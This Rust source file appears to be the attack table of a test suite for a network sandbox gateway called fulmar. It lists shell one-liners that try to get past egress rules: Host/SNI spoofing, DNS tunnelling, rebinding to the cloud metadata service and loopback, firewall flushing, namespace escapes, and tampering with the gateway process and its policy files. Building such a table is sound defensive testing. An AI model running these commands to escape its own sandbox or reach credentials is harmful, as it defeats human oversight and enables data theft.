//! The attacks: ways round rules that people have reported of such products, and some that were thought up.
//!
//! An attack succeeds if its mark arrives at a place that the rules do not allow, as the servers see it. Each has a
//! control run without those rules, in which it must succeed: else it would show nothing.

/// Where the control run takes place.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Control {
    /// `fulmar run` without rules.
    Open,
    /// The host, without fulmar: for what is refused without a rule, too.
    Host,
}

/// Conditions of an attack beyond an ordinary program.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Special {
    /// None.
    No,
    /// All capabilities in the namespaces of the program.
    Capabilities,
    /// A process namespace of its own, in which signals hit nothing but this run.
    Processes,
    /// Descriptor 3 is a connection to another server.
    Inherits,
    /// By a Unix socket of the file system or a descriptor: covered by --strict alone, as the documentation says.
    Strict,
    /// Cannot be seen without ending TLS, as the documentation says.
    Unseen,
}

/// An attack.
pub(crate) struct Attack {
    /// Unique.
    pub(crate) name: &'static str,
    /// In a few words.
    pub(crate) what: &'static str,
    /// Options of `fulmar run`; `{id}` is different in every run.
    pub(crate) rules: &'static [&'static str],
    /// What sh(1) runs.
    pub(crate) script: &'static str,
    pub(crate) control: Control,
    pub(crate) special: Special,
    /// Programs without which it cannot be tried.
    pub(crate) needs: &'static [&'static str],
    /// The public issue, without `https://github.com/`; empty: our own idea.
    pub(crate) source: &'static str,
}

impl Attack {
    const fn on_host(mut self) -> Attack {
        self.control = Control::Host;
        self
    }

    const fn special(mut self, special: Special) -> Attack {
        self.special = special;
        self
    }

    const fn rules(mut self, rules: &'static [&'static str]) -> Attack {
        self.rules = rules;
        self
    }

    const fn needs(mut self, needs: &'static [&'static str]) -> Attack {
        self.needs = needs;
        self
    }

    /// Whether the documentation says that rules alone do not cover it.
    pub(crate) const fn is_documented(&self) -> bool {
        matches!(self.special, Special::Strict | Special::Inherits | Special::Unseen)
    }
}

const fn attack(
    name: &'static str,
    source: &'static str,
    what: &'static str,
    script: &'static str,
) -> Attack {
    let rules = &["--allow", "ok.test"];
    Attack {
        name,
        what,
        rules,
        script,
        control: Control::Open,
        special: Special::No,
        needs: &["python3"],
        source,
    }
}

/// The folder of a policy, and a policy that opens everything.
macro_rules! policy_line {
    () => {
        "id=$(echo \"$MARK\" | cut -c3-8); open='allow = [\"ok.test\", \"45.10.0.66\"]'; cd \"$W/policy-$id\"; "
    };
}

/// A gateway takes a new policy, and then the server is asked that the first one does not allow.
macro_rules! reload {
    () => {
        "; \"$FULMAR\" policy reload; for p in $(ls /proc | grep -x '[0-9]*'); do if [ -n \"$OWN_PROCESSES\" ] && \
         [ \"$p\" != 1 ] && grep -qx fulmar /proc/$p/comm; then kill -HUP $p; fi; done 2>/dev/null; sleep 0.7; \
         curl -s -m 3 \"http://45.10.0.66/$MARK\""
    };
}

macro_rules! by_program {
    ($name:literal) => {
        concat!("\"$PY\" \"$W/attacks.py\" ", $name)
    };
}

/// Another name at the address of the allowed one.
const NAMES: &[Attack] = &[
    attack(
        "host-header",
        "archie-judd/agent-sandbox.nix/issues/105",
        "Host header of another name",
        r#"curl -s -m 3 -H "Host: $MARK.evil.test" http://ok.test/"#,
    ),
    attack(
        "sni",
        "github/gh-aw-firewall/pull/8878",
        "TLS server name of another name",
        by_program!("sni"),
    ),
    attack(
        "absolute-form",
        "empathic/clash/pull/148",
        "request target with another host",
        r#"curl -s -m 3 -x http://ok.test:80 "http://$MARK.evil.test/""#,
    ),
    attack(
        "connect",
        "anthropics/claude-code/issues/89165",
        "CONNECT to another name",
        r#"curl -sk -m 3 -p -x http://ok.test:80 "https://$MARK.evil.test/""#,
    ),
    attack(
        "second-request",
        "archie-judd/agent-sandbox.nix/issues/105",
        "second request of a connection",
        by_program!("second_request"),
    ),
    attack("pipelined", "", "second request in the same segment", by_program!("pipelined")),
    attack(
        "one-byte-http",
        "",
        "Host header in segments of one byte",
        by_program!("one_byte_segments"),
    ),
    attack(
        "one-byte-sni",
        "",
        "ClientHello in segments of one byte",
        by_program!("sni_in_one_byte_segments"),
    ),
    attack(
        "many-records",
        "",
        "ClientHello in records of seven bytes",
        by_program!("sni_in_many_records"),
    ),
    attack("two-hosts", "", "two Host headers", by_program!("two_hosts")),
    attack(
        "host-spellings",
        "",
        "Host with blanks, folded, with a port, with a dot",
        by_program!("host_spellings"),
    ),
    attack("line-feeds", "", "lines that end in a line feed alone", by_program!("bare_line_feeds")),
    attack("smuggled", "", "request in the body: two lengths", by_program!("smuggled")),
    attack(
        "http-1.0",
        "",
        "HTTP/1.0 with a target of another host",
        by_program!("http10_without_host"),
    ),
    attack("http2", "", "HTTP/2 with prior knowledge", by_program!("http2")),
    attack("h2c", "", "HTTP/2 after an Upgrade", by_program!("h2c_upgrade")),
    attack(
        "upgrade",
        "",
        "request after an Upgrade that the server ignores",
        by_program!("upgrade_refused"),
    ),
    attack(
        "quic",
        "",
        "HTTP/3 for another name",
        r#""$PY" "$W/http3_client.py" ok.test "$MARK.evil.test""#,
    )
    .needs(&["python:aioquic"]),
    attack(
        "quic-second",
        "",
        "HTTP/3 for another name after the allowed one, from the same port",
        r#""$PY" "$W/http3_client.py" ok.test ok.test "$MARK.evil.test""#,
    )
    .needs(&["python:aioquic"]),
    attack(
        "quic-port",
        "",
        "HTTP/3 for another name at another port",
        r#""$PY" "$W/http3_client.py" ok.test:8443 "$MARK.evil.test""#,
    )
    .needs(&["python:aioquic"]),
    attack(
        "quic-v2",
        "",
        "HTTP/3 for another name in version 2 of QUIC",
        r#""$PY" "$W/http3_client.py" --v2 ok.test "$MARK.evil.test""#,
    )
    .needs(&["python:aioquic"]),
    attack("postgres", "", "another name in the TLS of PostgreSQL", by_program!("postgres_tls")),
    attack(
        "proxy-protocol",
        "",
        "a header of the PROXY protocol before the request",
        by_program!("proxy_protocol"),
    ),
    attack("blank-lines", "", "blank lines before the request", by_program!("blank_lines")),
    attack(
        "no-sni",
        "github/gh-aw-firewall/issues/137",
        "TLS without a server name",
        by_program!("no_sni"),
    ),
    attack(
        "ech",
        "",
        "encrypted ClientHello with an allowed outer name",
        by_program!("encrypted_hello"),
    ),
    attack(
        "fronting",
        "superradcompany/microsandbox/issues/709",
        "another Host inside TLS of the allowed name",
        by_program!("fronted"),
    )
    .special(Special::Unseen),
    attack(
        "reordered",
        "",
        "Host header in segments in reverse order",
        by_program!("reordered_segments"),
    )
    .special(Special::Capabilities)
    .needs(&["python3", "ip", "ping"]),
    attack(
        "overlapping",
        "",
        "bytes of the stream sent twice, differently",
        by_program!("overlapping_segments"),
    )
    .special(Special::Capabilities)
    .needs(&["python3", "ip", "ping"]),
    attack(
        "real-address",
        "yaakov123/hagana/issues/5",
        "the allowed name's real address, by number",
        r#"curl -s -m 3 -H "Host: $MARK.evil.test" http://45.10.0.10/"#,
    ),
];

/// Data in questions, and other servers.
const DNS: &[Attack] = &[
    attack(
        "dns-a",
        "NVIDIA/OpenShell/issues/1169",
        "data in a name, by the resolver",
        r#"getent hosts "$MARK.evil.test""#,
    ),
    attack(
        "dns-txt",
        "anthropic-experimental/sandbox-runtime/issues/88",
        "TXT question",
        by_program!("dns_txt"),
    ),
    attack(
        "dns-types",
        "",
        "NS, CNAME, SOA, NULL, PTR, MX, SRV, SVCB, HTTPS, ANY",
        by_program!("dns_other_types"),
    ),
    attack(
        "dns-long",
        "coder/httpjail/issues/53",
        "a name of 220 characters",
        by_program!("dns_long_labels"),
    ),
    attack("dns-below", "", "a name below the allowed one", by_program!("dns_below_allowed")),
    attack("dns-two", "", "two questions in a message", by_program!("dns_two_questions")),
    attack(
        "dns-option",
        "",
        "data in an option of an allowed question",
        by_program!("dns_additional"),
    ),
    attack("dns-tcp", "dust-tt/dust/pull/25991", "TCP to the resolver", by_program!("dns_tcp")),
    attack(
        "dns-other",
        "github/gh-aw-firewall/pull/68",
        "another server",
        by_program!("dns_other_server"),
    ),
    attack(
        "dns-other-tcp",
        "github/gh-aw-firewall/pull/68",
        "another server, TCP",
        by_program!("dns_tcp_other"),
    ),
    attack("dns-real", "", "the host's resolver by its address", by_program!("dns_real_resolver")),
    attack("dot", "", "DNS over TLS to another server", by_program!("dns_over_tls")),
    attack(
        "doh",
        "",
        "DNS over HTTPS by address",
        r#"curl -sk -m 3 "https://45.10.0.66/dns-query?dns=$MARK""#,
    ),
    attack(
        "udp",
        "coder/boundary/pull/165",
        "UDP to another server",
        by_program!("dns_other_port"),
    ),
    attack("mdns", "", "multicast DNS", by_program!("llmnr")).on_host(),
];

/// Allowed names that lead to addresses that a name must not lead to.
const REBINDING: &[Attack] = &[
    rebinding("private", "openclaw/openclaw/pull/91752", "a private address", &["--allow", "private.test"]),
    rebinding("metadata", "NVIDIA/OpenShell/issues/814", "the metadata service", &["--allow", "meta.test"])
        .on_host(),
    rebinding("metadata-denied", "", "the metadata service, denied by its prefix, too", &[
        "--allow", "meta.test", "--deny", "169.254.0.0/16",
    ])
    .on_host(),
    rebinding("metadata-v6", "", "the metadata service over IPv6", &["--allow", "meta6.test"]).on_host(),
    rebinding("ula", "majorcontext/moat/issues/317", "a unique local IPv6 address", &["--allow", "ula.test"]),
    loopback("loopback", "openai/codex/issues/33227", "127.0.0.1", &["--allow", "loop.test"]),
    loopback("loopback-v6", "", "::1", &["--allow", "loop6.test"]),
    loopback("zero", "librefang/librefang/pull/6053", "0.0.0.0", &["--allow", "zero.test"]),
    loopback("host", "github/gh-aw-firewall/issues/207", "the host's own address", &["--allow", "host.test"]),
    loopback("host-v6", "", "the host's own IPv6 address", &["--allow", "host6.test"]),
    rebinding("mapped", "openai/codex/issues/42925", "::ffff:169.254.169.254", &["--allow", "mapped.test"])
        .on_host(),
    rebinding("nat64", "", "64:ff9b::169.254.169.254", &["--allow", "nat64.test"]).on_host(),
    rebinding("nat64-private", "", "64:ff9b::10.20.0.5", &["--allow", "nat64p.test"]),
    rebinding("alias", "", "an alias of a name that leads to the metadata service", &["--allow", "alias.test"])
        .on_host(),
    rebinding("mixed", "", "a private address beside a public one", &["--allow", "mixed.test"]),
    attack(
        "rebound",
        "openai/codex/issues/18674",
        "an allowed name leads elsewhere the second time",
        r#"id=$(echo "$MARK" | cut -c3-8); curl -s -m 2 "http://flip-$id.test/"; sleep 5.5; curl -s -m 2 "http://flip-$id.test/$MARK""#,
    )
    .rules(&["--allow", "flip-{id}.test"]),
];

/// What no rule allows, by number.
const ADDRESSES: &[Attack] = &[
    attack(
        "other-address",
        "github/gh-aw-firewall/issues/137",
        "another server by its address",
        r#"curl -s -m 3 "http://45.10.0.66/$MARK""#,
    ),
    attack(
        "other-v6",
        "anthropics/claude-code/pull/81423",
        "another server by its IPv6 address",
        r#"curl -s -m 3 "http://[2a0a::66]/$MARK""#,
    ),
    attack(
        "other-port",
        "github/gh-aw-firewall/issues/207",
        "a database of another server",
        by_program!("other_port"),
    ),
    attack(
        "spellings",
        "",
        "the metadata service as a decimal, octal and hexadecimal number",
        r#"for a in 2852039166 0251.0376.0251.0376 0xa9fea9fe 169.254.43518; do curl -s -m 2 "http://$a/$MARK"; done"#,
    )
    .on_host(),
    attack(
        "mapped-literal",
        "ohdearquant/lionagi/issues/1125",
        "IPv6 addresses that contain the metadata service's",
        r#"for a in ::ffff:169.254.169.254 64:ff9b::a9fe:a9fe fd00:ec2::254; do curl -s -m 2 "http://[$a]/$MARK"; done"#,
    )
    .on_host(),
    attack(
        "open-metadata",
        "utksh1/SecuScan/issues/1748",
        "the metadata service, without any rule",
        r#"curl -s -m 3 "http://169.254.169.254/$MARK""#,
    )
    .rules(&[])
    .on_host(),
    attack(
        "host-addresses",
        "github/gh-aw-firewall/issues/207",
        "every address of the host, and its loopback, without any rule",
        r#"for a in 127.0.0.1 '[::1]' 0.0.0.0 45.10.0.1 45.10.0.2 '[2a0a::1]' 169.254.1.1; do curl -s -m 2 "http://$a:8100/$MARK"; done"#,
    )
    .rules(&[])
    .on_host(),
    attack(
        "proxy",
        "",
        "a proxy of the environment at the host",
        r#"http_proxy=http://45.10.0.1:8100 curl -s -m 3 "http://evil.test/$MARK""#,
    )
    .on_host(),
    attack(
        "other-proxy",
        "",
        "a proxy at another server",
        r#"https_proxy=http://45.10.0.66:3128 curl -s -m 3 "https://$MARK.evil.test/""#,
    ),
    attack("fast-open", "", "data in a SYN", by_program!("fast_open")),
    attack("multicast", "", "a multicast group", by_program!("multicast")).on_host(),
    attack("broadcast", "", "broadcasts", by_program!("broadcast")).on_host(),
];

/// Frames of the program's own.
const FRAMES: &[Attack] = &[
    frames("raw-socket", "istio/istio/issues/32223", "a raw socket", by_program!("raw_socket")),
    frames(
        "packet-socket",
        "istio/istio/issues/32223",
        "a packet socket",
        by_program!("raw_frames"),
    ),
    frames(
        "spoofed",
        "orjail/orjail/pull/11",
        "other source addresses",
        by_program!("spoofed_source"),
    ),
    frames("fragments", "", "a datagram in fragments", by_program!("fragments")),
    frames(
        "icmp",
        "agentcage/agentcage/pull/290",
        "data in echo requests",
        by_program!("icmp_tunnel"),
    ),
    frames(
        "flushed",
        "github/gh-aw-firewall/issues/129",
        "other addresses, routes and firewall rules in the namespace",
        r#"i=$(ip -o route show default | sed 's/.* dev \([^ ]*\).*/\1/'); ip addr add 45.10.0.3/24 dev $i; nft flush ruleset; iptables -F; ip route add 45.10.0.66 dev $i; curl -s -m 3 "http://45.10.0.66/$MARK""#,
    ),
];

/// The rest of the system.
const SYSTEM: &[Attack] = &[
    attack("docker", "github/gh-aw-firewall/issues/10", "docker.sock", by_program!("/run/docker.sock"))
        .special(Special::Strict),
    attack("dbus", "Kilo-Org/kilocode/issues/11650", "another Unix socket", by_program!("/run/bus")).special(Special::Strict),
    attack("nscd", "NixOS/nixpkgs/issues/428554", "the socket of nscd", by_program!("/var/run/nscd/socket")),
    attack(
        "varlink",
        "netblue30/firejail/issues/7209",
        "the socket of systemd-resolved",
        by_program!("/run/systemd/resolve/io.systemd.Resolve"),
    ),
    attack("abstract", "moby/moby/issues/14767", "an abstract Unix socket", by_program!("abstract_socket")).on_host(),
    attack("inherited", "", "an inherited connection", by_program!("inherited_descriptor")).special(Special::Inherits),
    attack(
        "own-namespace",
        "",
        "a network namespace of its own",
        r#"unshare --user --map-root-user --net sh -c 'ip link set lo up; curl -s -m 2 "http://45.10.0.66/$MARK"'; unshare --user --map-root-user curl -s -m 2 "http://45.10.0.66/$MARK""#,
    ),
    attack("other-namespace", "", "the network namespace of another process", by_program!("other_namespace"))
        .special(Special::Processes).on_host(),
    attack(
        "resolv-conf",
        "",
        "an own resolv.conf",
        r#"unshare --user --map-root-user --mount sh -c 'umount /etc/resolv.conf; echo nameserver 45.10.0.66 > r; mount --bind r /etc/resolv.conf; getent hosts "$MARK.evil.test"'; echo nameserver 45.10.0.66 > /etc/resolv.conf"#,
    ),
    attack(
        "hosts",
        "yaakov123/hagana/issues/5",
        "the allowed name in an own /etc/hosts",
        r#"unshare --user --map-root-user --mount sh -c 'echo 45.10.0.66 ok.test > h; mount --bind h /etc/hosts; curl -s -m 2 "http://ok.test/$MARK"'; curl -s -m 2 --resolve ok.test:80:45.10.0.66 "http://ok.test/$MARK""#,
    ),
    attack("kill", "", "the gateway is killed", by_program!("kill_gateway")).special(Special::Processes).on_host(),
    attack("trace", "openai/codex-security/pull/160", "the gateway is traced", by_program!("trace_gateway"))
        .special(Special::Processes).on_host(),
    attack("descriptors", "", "descriptors are taken from the gateway", by_program!("steal_descriptors"))
        .special(Special::Processes).on_host(),
    attack("memory", "openai/codex-security/pull/160", "the gateway's memory is written", by_program!("write_memory"))
        .special(Special::Processes).on_host(),
    attack(
        "rules-file",
        "",
        "the file of the rules is changed",
        r#"id=$(echo "$MARK" | cut -c3-8); if echo 'allow *' >> "$W/rules-$id"; then echo "reached $MARK: the file is writable"; fi"#,
    )
    .rules(&["--rules", "{folder}/rules-{id}"])
    .on_host(),
    policy(
        "policy-file",
        "the file of the policy is changed, and read again",
        &["--policy", "{folder}/policy-{id}/real.toml"],
        concat!(policy_line!(), "echo \"$open\" > real.toml", reload!()),
    ),
    policy(
        "policy-folder",
        "another folder with another policy takes the place of the first, and is read",
        &["--policy", "{folder}/policy-{id}/real.toml"],
        concat!(policy_line!(), "cd ..; mv policy-$id moved-$id; mkdir policy-$id; echo \"$open\" > policy-$id/real.toml", reload!()),
    ),
    policy(
        "policy-link",
        "the symbolic link to the policy is changed, and read again",
        &["--policy", "{folder}/policy-{id}/link.toml"],
        concat!(policy_line!(), "rm link.toml; echo \"$open\" > link.toml", reload!()),
    ),
];

const fn rebinding(
    name: &'static str,
    source: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
) -> Attack {
    attack(name, source, what, r#"curl -s -m 3 "http://$NAME/$MARK""#).rules(rules)
}

const fn loopback(
    name: &'static str,
    source: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
) -> Attack {
    attack(name, source, what, r#"curl -s -m 3 "http://$NAME:8100/$MARK""#).rules(rules).on_host()
}

const fn policy(
    name: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
    script: &'static str,
) -> Attack {
    attack(name, "", what, script).rules(rules).special(Special::Processes).on_host()
}

const fn frames(
    name: &'static str,
    source: &'static str,
    what: &'static str,
    script: &'static str,
) -> Attack {
    attack(name, source, what, script)
        .special(Special::Capabilities)
        .needs(&["python3", "ip", "ping"])
}

/// The kinds, in the order of the table.
pub(crate) const KINDS: [(&str, &[Attack]); 6] = [
    ("another name at the allowed address", NAMES),
    ("DNS", DNS),
    ("an allowed name that leads elsewhere", REBINDING),
    ("other addresses", ADDRESSES),
    ("frames of the program's own", FRAMES),
    ("the rest of the system", SYSTEM),
];
